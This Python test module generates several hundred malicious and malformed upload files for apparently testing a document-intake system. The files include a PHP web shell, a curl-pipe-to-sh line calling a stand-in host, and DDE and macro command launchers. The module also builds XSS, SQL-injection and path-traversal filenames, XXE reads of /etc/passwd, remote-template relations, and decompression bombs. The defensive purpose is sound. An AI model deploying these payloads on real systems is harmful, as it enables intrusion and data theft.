# ruff: noqa: E501
"""300 and more files that mean harm, each with the name it comes under; made here, so that none lies in the repository."""

from __future__ import annotations

import random
import struct
import zlib
from collections.abc import Iterator
from itertools import product

from . import files

SCRIPT = b"<script>alert(document.cookie)</script>"
HTML = b"<!doctype html><html><body>" + SCRIPT + b"</body></html>"
SVG = b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'>" + SCRIPT + b"</svg>"
PROGRAMS = [
    b"MZ\x90\0" + b"\0" * 60 + b"PE\0\0", b"\x7fELF\x02\x01\x01" + b"\0" * 50, b"#!/bin/sh\ncurl x.test | sh\n",
    b"\xca\xfe\xba\xbe\0\0\0\x34", b"<?php system($_GET['c']); ?>", b"@echo off\r\ndel *.*\r\n",
    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500, b"Sub AutoOpen()\nShell \"cmd\"\nEnd Sub", b"\0asm\x01\0\0\0",
]  # fmt: skip
TEXTS = [HTML, SVG, b"\xef\xbb\xbf" + HTML, b"\n\n  " + HTML, HTML.decode().encode("utf-16"), b"%!PS-Adobe-3.0\n", b"{\\rtf1}",
         b"From: a\nContent-Type: text/html\n\n" + HTML, b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)", b"BM" + HTML,
         b"RIFF\0\0\0\0WEBP" + HTML, b"a,b\n=cmd|'/c calc'!A1,1\n", b"{}", b"\0" * 1000, b"", b"\xff\xd8", b"%PDF-", b"PK\x03\x04",
         b"II*\0", b"MM\0*", b"\x89PNG\r\n\x1a\n"]  # fmt: skip
NAMES = [
    "fax.pdf", "../../../etc/cron.d/x.pdf", "..\\..\\web.config", "/etc/passwd", "C:\\boot.ini", "a.pdf.exe", "x.svg", ".htaccess",
    "a\0.pdf", "a\r\nX-Evil: 1.pdf", "\u202efdp.exe", "<img src=x onerror=alert(1)>.png", "'; drop table referrals; --.pdf",
    "x" * 400 + ".pdf", "CON", "", " ", "{{7*7}}.pdf", "%2e%2e%2fx.pdf", "\U0001f4a9.jpg",
]  # fmt: skip
ACTIONS = [
    b"<</S/JavaScript/JS(app.alert(1))>>", b"<</S/Launch/F(cmd.exe)>>", b"<</Type/EmbeddedFile/Length 0>>",
    b"<</S/SubmitForm/F(http://x.test)>>", b"<</S/ImportData/F(x)>>", b"<</S/GoToE>>", b"<</Subtype/RichMedia>>",
    b"<</S/Rendition>>", b"<</XFA 5 0 R>>", b"<</S/#4aavaScript/JS(1)>>", b"<</S/J#61v#61Script/JS(1)>>", b"<</JS 5 0 R>>",
    b"<</S/La#75nch>>", b"<</Names<</EmbeddedFiles 5 0 R>>>>", b"<</S /JavaScript /JS (x)>>", b"<</Names<</JavaScript 5 0 R>>>>",
]  # fmt: skip


def everything() -> Iterator[tuple[str, bytes]]:
    names = iter(lambda: random.choice(NAMES), None)
    for content in contents():
        yield next(names), content


def contents() -> Iterator[bytes]:
    yield from PROGRAMS
    yield from TEXTS
    yield from polyglots()
    yield from pdfs()
    yield from pictures()
    yield from faxes()
    yield from letters()
    yield from cut_and_changed()


def polyglots() -> Iterator[bytes]:
    """One thing in front, another behind it."""
    good = files.GOOD.values()
    for one, other in product(good, [*good, HTML, SVG, PROGRAMS[0]]):
        yield one + other
    for content in good:
        yield from (HTML + content, b"\n" + content, PROGRAMS[2] + content)


def pdfs() -> Iterator[bytes]:
    for action in ACTIONS:
        yield files.pdf(more=[action])
        yield files.packed_pdf(action)
        yield files.pdf(more=[files.stream(b"9 0 obj\n" + action + b"\nendobj")])
    yield files.pdf(trailer="/Encrypt 5 0 R")
    yield files.pdf(catalog="/OpenAction<</S/JavaScript/JS(this.print())>>")
    yield files.packed_pdf(b"", body=zlib.compress(b"\0" * 80_000_000, 9))
    yield files.packed_pdf(b"", body=b"no zlib at all")
    yield files.packed_pdf(b"", says="/Filter[/ASCIIHexDecode/FlateDecode]")
    yield files.packed_pdf(b"", says="/Filter/LZWDecode")
    yield files.pdf(0)
    yield files.pdf(401)
    yield files.pdf().replace(b"startxref\n", b"startxref\n9999999999")
    yield files.pdf().replace(b"%PDF-1.4", b"%PDF-9.9")
    yield b"%PDF-1.4\n" + HTML
    yield b"%PDF-1.4\n" + HTML + b"\nstartxref\n0\n%%EOF"
    yield files.pdf(more=[b"<<" * 100_000])
    yield files.pdf(more=[b"1 0 obj " * 210_000])
    yield files.pdf(more=[b"stream\nendstream\n" * 51_000])


def pictures() -> Iterator[bytes]:
    bomb = zlib.compress(b"\0" * 80_000_000, 9)
    for width, height in [(0, 0), (1, 0), (2**31, 2**31), (65_535, 65_535), (30_001, 1), (9000, 9000)]:
        yield files.png(width, height, picture=b"")
        yield files.jpeg(width % 65_536, height % 65_536)
        yield files.tiff(width=width, height=height, lines=b"x" * 10)
    yield files.png(picture=bomb)
    yield files.png(7000, 7000, picture=bomb)
    yield files.png(picture=b"")
    yield files.png(picture=b"not zlib")
    yield files.png(extra=files.chunk(b"EVIL", SCRIPT))
    yield files.png(extra=files.chunk(b"tEXt", SCRIPT))
    yield files.png(extra=files.chunk(b"IHDR", b"\0" * 13))
    yield files.png(colour=5)
    yield files.png(depth=3)
    yield files.png().replace(b"IDAT", b"IDAX")
    for mark in [*range(0xC0, 0xD0), 0xD8, 0xDC, 0xDE, 0xDF, *range(0xE0, 0xF0), 0xFE]:
        yield files.jpeg(extra=files.segment(mark, SCRIPT))
    yield files.jpeg(scan=b"")
    yield files.jpeg(scan=files.segment(0xDA, b"\1\1\0\0\x3f\0"))
    yield files.jpeg(extra=files.exif(turned=9))
    yield files.jpeg(extra=files.segment(0xE1, b"Exif\0\0II*\0\xff\xff\xff\xff"))
    yield files.jpeg(extra=b"\xff" * 10_000)
    yield files.jpeg(behind=HTML)


def faxes() -> Iterator[bytes]:
    yield files.tiff(loops=True)
    yield files.tiff(401)
    for packing in (0, 6, 9, 34712, 65535):
        yield files.tiff(packing=packing)
    for tag, sort in product((256, 273, 279, 347, 320), (0, 2, 5, 12, 13)):
        yield files.tiff(more={tag: (sort, b"\xff" * 8)})
    yield b"II*\0" + struct.pack("<I", 8) + struct.pack("<H", 65_535)
    yield b"II*\0" + struct.pack("<I", 0xFFFFFFFF)
    yield b"II+\0" + b"\x08\0\0\0" + b"\0" * 16
    yield files.tiff(lines=b"")


def letters() -> Iterator[bytes]:
    for name in (
        "word/vbaProject.bin", "word/embeddings/oleObject1.bin", "word/activeX/activeX1.bin", "evil.exe", "word/media/x.svg",
        "word/media/x.html", "../../evil.xml", "/etc/passwd", "word\\..\\x.xml", "word/embeddings/a.docm",
        "customUI/customUI14.xml\0", "word/media/" + "x" * 60_000 + ".hta",
    ):  # fmt: skip
        yield files.docx(parts={name: SCRIPT})
    for sort in ("oleObject", "attachedTemplate", "frame", "image", "subDocument", "aFChunk", "vbaProject", "control"):
        for outward in (True, False):
            yield files.docx(relations=files.relation(sort, "http://x.test/a", outward=outward))
    for macro in (
        "application/vnd.ms-word.document.macroEnabled.main+xml",
        "application/vnd.ms-office.vbaProject",
        "text/html",
    ):
        yield files.docx(kind=macro)
    for field in ('DDEAUTO c:\\windows\\cmd "/k calc"', "INCLUDEPICTURE http://x.test/a.png", "INCLUDETEXT c:\\x"):
        yield files.docx(f"<w:instrText>{field}</w:instrText>".replace('"', ""))
    for doctype in ('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>', '<!DOCTYPE a SYSTEM "http://x.test/">'):
        yield files.docx(doctype=doctype)
    yield files.docx("<w:broken>")
    yield files.docx("x" * 3_000_000)
    yield files.docx(parts={"word/media/a.png": b"\0" * 50_000_000})
    yield files.docx(parts={f"word/media/{n}.png": b"" for n in range(2100)})
    yield files.docx(pages=401)
    whole = files.docx()
    yield whole.replace(b"PK\x05\x06", b"PK\x05\x05")
    yield whole.replace(b"word/document.xml", b"word/documenu.xml")
    yield whole[:-2] + struct.pack("<H", 5) + b"<scr>"


def cut_and_changed() -> Iterator[bytes]:
    """Of each good file some halves, and some with bytes that somebody turned."""
    dice = random.Random(5)
    for content in files.GOOD.values():
        for share in (3, 40, 75, 97):
            yield content[: len(content) * share // 100]
        for _ in range(8):
            changed = bytearray(content)
            for _ in range(dice.randint(1, 6)):
                changed[dice.randrange(len(changed))] = dice.randrange(256)
            yield bytes(changed)
